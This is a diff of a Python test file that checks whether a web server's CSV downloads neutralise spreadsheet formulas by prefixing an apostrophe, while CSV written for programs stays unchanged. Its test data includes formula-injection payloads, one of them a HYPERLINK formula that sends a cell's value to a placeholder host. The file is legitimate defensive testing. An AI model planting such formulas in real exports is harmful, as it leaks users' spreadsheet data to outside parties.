@@ -1,34 +1,47 @@
-"""Files that the server hands out."""
+"""Files that the server hands out, and those of `iomine sql`."""
 
 import csv
 import io
+from pathlib import Path
 
 import pyarrow as pa
-import pytest
+import pyarrow.parquet as pq
+from web_server import ask_server, served
 
+from iomine.schema.registry import arrow_schema
+from iomine.triggers.registry import reference_table
+from iomine.views.catalog import build_catalog
 from iomine.views.encode import write_csv
-from iomine.web.app import _FILES
 
 FORMULAS = ('=HYPERLINK("http://host.test/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1")
-PLAIN = ("/scratch/a=b", "'quoted", "ada", "")
-ANSWER = pa.table({"path": [*FORMULAS, *PLAIN], "moved_bytes": range(-3, len(FORMULAS + PLAIN) - 3)})
+PLAIN = ("/scratch/a=b", "'quoted", "ada", "a\rb")
+USERS = [*FORMULAS, *PLAIN]
+UIDS = list(range(-3, len(USERS) - 3))
 
 
-def _written(write) -> list[dict[str, str]]:
+def _read(body: bytes) -> dict[str, list[str]]:
+    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
+    return {name: [row[name] for row in rows] for name in ("user", "uid")}
+
+
+def test_programs_get_texts_as_they_are() -> None:
+    """CSV for programs has every text as it is, and each row as one."""
     file = io.BytesIO()
-    write(ANSWER, file)
-    return list(csv.DictReader(io.StringIO(file.getvalue().decode(), newline="")))
+    write_csv(pa.table({"user": USERS, "uid": UIDS}), file)
+    assert {"user": USERS, "uid": [str(uid) for uid in UIDS]} == _read(file.getvalue())
 
 
-def test_programs_get_texts_as_they_are():
-    """CSV for programs has every text as it is."""
-    assert [*FORMULAS, *PLAIN] == [row["path"] for row in _written(write_csv)]
-
-
-@pytest.mark.parametrize("text", FORMULAS)
-def test_no_download_of_a_browser_holds_a_formula(text: str):
+def test_browsers_get_no_formulas(tmp_path: Path) -> None:
     """What a spreadsheet would work out begins with an apostrophe; other texts, and numbers below zero, are as they are."""
-    rows = _written(_FILES["csv"][1])
-    assert f"'{text}" in [row["path"] for row in rows]
-    assert list(PLAIN) == [row["path"] for row in rows[len(FORMULAS) :]]
-    assert [str(number) for number in ANSWER["moved_bytes"].to_pylist()] == [row["moved_bytes"] for row in rows]
+    schema = arrow_schema("log")
+    rows = [
+        dict.fromkeys(schema.names) | {"log_id": f"{uid + 3:02}", "user": user, "uid": uid}
+        for user, uid in zip(USERS, UIDS, strict=True)
+    ]
+    part = tmp_path / "lake" / "log" / "cluster=alpha" / "night=2024-04-18" / "part.parquet"
+    part.parent.mkdir(parents=True)
+    pq.write_table(pa.Table.from_pylist(rows, schema), part)
+    build_catalog(tmp_path / "iomine.duckdb", {"log": [str(part)]}, {"triggers": reference_table()}, {})
+    with served(tmp_path) as address:
+        got = _read(ask_server(address, "/views/logs.csv?columns=user,uid,log_id&order=log_id").body)
+    assert {"user": [*(f"'{text}" for text in FORMULAS), *PLAIN], "uid": [str(uid) for uid in UIDS]} == got
